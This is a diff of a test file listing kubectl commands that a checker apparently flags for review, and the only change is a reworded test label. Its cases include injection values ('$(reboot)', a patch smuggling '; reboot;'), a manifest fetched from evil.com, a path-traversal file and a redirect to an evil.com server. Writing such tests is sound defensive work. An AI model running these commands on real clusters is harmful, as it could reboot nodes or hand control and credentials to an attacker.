@@ -162,7 +162,7 @@ describe('what stands for a review', () => {
     ['an object whose name is an option', ['kubectl', 'annotate', 'applications.argoproj.io', '--all', 'a/b=c']],
     ['a substitution', ['kubectl', 'delete', 'pod', '$(reboot)']],
     ['a quotation mark in a patch', ['kubectl', 'patch', 'pod', 'a', `--patch={"a":"'; reboot; '"}`]],
-    ['a patch that is no JSON', ['kubectl', 'patch', 'pod', 'a', '--patch={"a":}']],
+    ['a patch that is not JSON', ['kubectl', 'patch', 'pod', 'a', '--patch={"a":}']],
     ['a file from elsewhere', ['kubectl', 'apply', '-f', 'https://evil.com/x.yaml']],
     ['a file outside the folder', ['kubectl', 'apply', '-f', '../x.yaml']],
     ['another server', ['kubectl', 'delete', 'pod', 'a', '--server=https://evil.com']],
